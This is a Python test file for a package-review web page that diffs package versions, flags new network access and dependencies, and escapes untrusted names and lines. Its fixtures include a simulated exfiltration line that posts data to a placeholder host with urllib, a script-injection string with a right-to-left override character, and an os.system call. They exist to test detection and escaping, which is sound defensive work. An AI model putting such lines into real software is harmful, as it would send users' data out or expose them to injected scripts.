"""The change page: what is new first, then files, then lines with what is said beside them."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import replace

import pytest

from affineur.checks.differing import ChildDiffer
from affineur.services.kept_differences import KeptDifferences
from affineur.web.app import build_app
from support.browsing import Visitor
from support.dists import sdist, wheel
from support.house import House
from support.house import house as open_house

QUIET = '"""Slices."""\n\nimport json\n\n\ndef slices(text):\n    return json.loads(text)\n'
LOUD = QUIET.replace("import json", "import json\nimport urllib.request").replace(
    "    return",
    '    urllib.request.urlopen("https://cellar.example.invalid/", data=text)\n    return',
)
HOSTILE = "</td></table><script>alert(1)</script>\u202e\n"
PAGE = "/feeds/internal/packages/comte/2.1/change"


@pytest.fixture(scope="module")
def cellar(tmp_path_factory: pytest.TempPathFactory) -> Iterator[House]:
    """A house with two versions of a package, and more than two of others."""
    with open_house(tmp_path_factory.mktemp("cellar")) as opened:
        fill(opened)
        yield opened


def fill(house: House) -> None:
    old = {
        "comte/__init__.py": QUIET.encode(),
        "comte/gone.py": b"x = 1\n",
        "comte/same.py": b"same = True\n" * 9,
        "comte/from.py": b"# this file moves\n" * 9,
        "comte/rind.bin": b"\x00\x01" * 40,
    }
    new = {
        "comte/__init__.py": LOUD.encode(),
        "comte/new.py": b"def fresh():\n    return 2\n",
        "comte/same.py": b"same = True\n" * 9,
        "comte/to.py": b"# this file moves\n" * 9,
        "comte/rind.bin": b"\x00\x02" * 50,
        "comte/<b>odd.html": HOSTILE.encode(),
        "tests/test_comte.py": b"assert True\n",
    }
    house.publish(wheel("comte", "2.0", files=old))
    house.publish(wheel("comte", "2.1", files=new, requires=["rind>=1"]))
    house.publish(sdist("comte", "2.1"))
    house.publish(wheel("alone", "1.0"))


def test_what_is_new_stands_first_the_gravest_before_the_rest(cellar: House) -> None:
    page = Visitor(cellar, "dev").get(PAGE)

    assert page.title == "comte 2.0 → 2.1"
    assert page.all(".news strong") == [
        "It newly opens network connections.",
        "New dependencies: rind.",
    ]
    assert "what runs when Python starts" in page.says(".as-before")
    assert "findings (it was not vetted yet)" in page.says(".not-told")
    assert "listed by builder" in page.says(".against")


def test_the_tree_has_all_files_in_the_order_in_which_they_matter(cellar: House) -> None:
    page = Visitor(cellar, "dev").get(PAGE)
    assert page.all(".file-tree summary") == [
        "With findings (1)",
        "Code (3)",
        "Other text (1)",
        "Compiled and binary (1)",
        "Tests and documentation (1)",
    ]
    assert page.all(".file-tree li") == [
        "__init__.py 1 finding +2 \u22120",
        "gone.py removed +0 \u22121",
        "new.py added +2 \u22120",
        "to.py moved",
        "<b>odd.html added +1 \u22120",
        "rind.bin binary",
        "test_comte.py added +1 \u22120",
    ]


def test_what_is_said_of_a_line_stands_below_it_and_leads_to_the_next(cellar: House) -> None:
    page = Visitor(cellar, "dev").get(PAGE)
    lines = page.all(".sheet:first-of-type tr")
    place = next(i for i, line in enumerate(lines) if "urlopen" in line)

    assert lines[place].startswith("8+")
    assert "Here it opens network connections" in lines[place + 1]
    assert page.links(".actions a")["Go to the first of 1 finding in the lines"] == "#note-1"
    assert page.links("#note-1 a")["back to the top"] == "#new"


@pytest.mark.parametrize("view", ["unified", "split"])
def test_each_view_shows_the_lines_of_both_sides(cellar: House, view: str) -> None:
    page = Visitor(cellar, "dev").get(f"{PAGE}?view={view}&file=comte/__init__.py")
    assert page.html.css_first(f"table.is-{view}") is not None
    assert "import urllib.request" in page.says(f"table.is-{view}")


def test_a_binary_is_told_by_its_size_and_digest(cellar: House) -> None:
    page = Visitor(cellar, "dev").get(f"{PAGE}?file=comte/rind.bin")
    assert [one.split() for one in page.all(".sheet td.number")] == [["80", "B"], ["100", "B"]]
    assert len(page.html.css(".sheet .digest")) == 2


def test_one_file_is_shown_alone_with_as_many_lines_around_as_are_wanted(cellar: House) -> None:
    visitor = Visitor(cellar, "dev")
    alone = visitor.get(f"{PAGE}?file=comte/__init__.py")
    more = visitor.get(alone.links(".sheet header a")["12 lines around each change"])

    assert len(alone.html.css(".sheet")) == 1
    assert "Slices." in more.says(".sheet")
    assert visitor.get(f"{PAGE}?file=comte/__init__.py&around=999").status == 400
    assert visitor.get(f"{PAGE}?file=comte/same.py").status == 404


def test_what_is_gone_is_in_the_tree_and_not_on_the_page_by_itself(cellar: House) -> None:
    visitor = Visitor(cellar, "dev")
    page = visitor.get(PAGE)
    gone = page.links(".file-tree a")["gone.py"]

    assert "comte/gone.py" not in page.all(".sheet h3")
    assert "x = 1" in visitor.get(gone).says(".sheet")


def test_nothing_in_a_name_or_a_line_becomes_markup(cellar: House) -> None:
    page = Visitor(cellar, "dev").get(PAGE)
    assert "<script>alert" not in page.text
    assert "<b>odd" not in page.text
    assert "U+202E" in page.text
    assert "\u202e" not in page.text


def test_the_tree_comes_alone_for_the_script(cellar: House) -> None:
    part = Visitor(cellar, "dev").part(f"{PAGE.replace('/change', '/change/tree')}")
    assert part.html.css_first("nav#tree") is not None
    assert part.html.css_first("h1") is None


def test_another_file_of_the_release_may_be_chosen(cellar: House) -> None:
    page = Visitor(cellar, "dev").get(f"{PAGE}?of=comte-2.1.tar.gz")
    assert "their files are not compared" in page.says(".files")
    assert Visitor(cellar, "dev").get(f"{PAGE}?of=other.whl").status == 404


def test_a_first_version_has_nothing_to_be_held_against(cellar: House) -> None:
    page = Visitor(cellar, "dev").get("/feeds/internal/packages/alone/1.0/change")
    assert page.status == 200
    assert page.says(".notice").startswith("No other version of alone is approved")


def test_another_version_may_be_held_against(cellar: House) -> None:
    page = Visitor(cellar, "dev").get("/feeds/internal/packages/comte/2.0/change?from=2.1")
    assert page.title == "comte 2.1 → 2.0"
    gone = Visitor(cellar, "dev").get(f"{PAGE}?from=9.9")
    assert gone.status == 404


def test_who_may_not_download_a_file_sees_nothing_of_it(house: House) -> None:
    house.upstream.add(
        wheel("brie", "1.0", files={"a.py": b"one\n"}),
        wheel("brie", "1.1", files={"a.py": b"two\n"}),
    )
    path = "/feeds/approved/packages/brie/1.1/change?from=1.0"

    assert Visitor(house, "dev").get(path).status == 404
    assert Visitor(house, "stranger").get(path).status == 404
    assert "two" not in Visitor(house, "dev").get(path).text
    asked = Visitor(house).get(path, follow=False)
    assert asked.status in {303, 401}


def test_what_was_not_fetched_is_fetched_when_somebody_says_so(house: House) -> None:
    house.upstream.add(
        wheel("brie", "1.0", files={"a.py": b"one\n"}),
        wheel("brie", "1.1", files={"a.py": b"two\n"}),
    )
    visitor = Visitor(house, "approver")
    page = visitor.get("/feeds/approved/packages/brie/1.1/change?from=1.0")
    assert (page.status, page.title) == (409, "brie 1.1: a file must be fetched first")

    then = visitor.submit(page, button="Fetch and compare")
    assert then.title == "brie 1.0 → 1.1"
    assert "which is not approved" in then.says(".against")


def test_news_lead_to_their_place_on_the_page(cellar: House) -> None:
    page = Visitor(cellar, "dev").get(PAGE)
    assert page.links(".news a") == {"comte/__init__.py:8": "#note-1"}
    alone = Visitor(cellar, "dev").get(f"{PAGE}?file=comte/rind.bin")
    assert alone.links(".news a")["comte/__init__.py:8"].endswith("?file=comte%2F__init__.py#files")


def test_a_request_that_does_not_ask_for_this_release_is_not_told(cellar: House) -> None:
    page = Visitor(cellar, "dev").get(f"{PAGE}?request=1")
    assert page.html.css_first(".decide") is None
    assert Visitor(cellar, "dev").get(f"{PAGE}?request=nonsense").status == 200


def test_what_is_new_is_told_even_when_lines_cannot_be_made(cellar: House) -> None:
    differ = ChildDiffer(timeout_s=0.001, memory_bytes=1 << 30, total_bytes=1 << 30)
    vetting = replace(cellar.gear.vetting, differ=differ)
    gear = replace(cellar.gear, vetting=vetting, differences=KeptDifferences())
    lame = replace(cellar, gear=gear, app=build_app(gear))
    page = Visitor(lame, "dev").get(PAGE)

    assert page.all(".news strong")[0] == "It newly opens network connections."
    assert "They cannot be compared" in page.says(".sheets .trouble")
    assert "Lines are being counted" in page.says(".file-tree")


def test_from_a_file_shown_alone_a_link_leads_to_the_next_finding(house: House) -> None:
    old = {"a.py": b"x = 1\n", "b.py": b"x = 1\n"}
    new = {
        "a.py": b"import os\nos.system('ls')\n",
        "b.py": b"import os\nos.system('ls')\n",
    }
    house.publish(wheel("edam", "1.0", files=old))
    house.publish(wheel("edam", "1.1", files=new))
    page = Visitor(house, "dev").get("/feeds/internal/packages/edam/1.1/change?file=a.py")
    assert page.links("a.onward")["Next finding: in b.py"].endswith("?file=b.py#files")
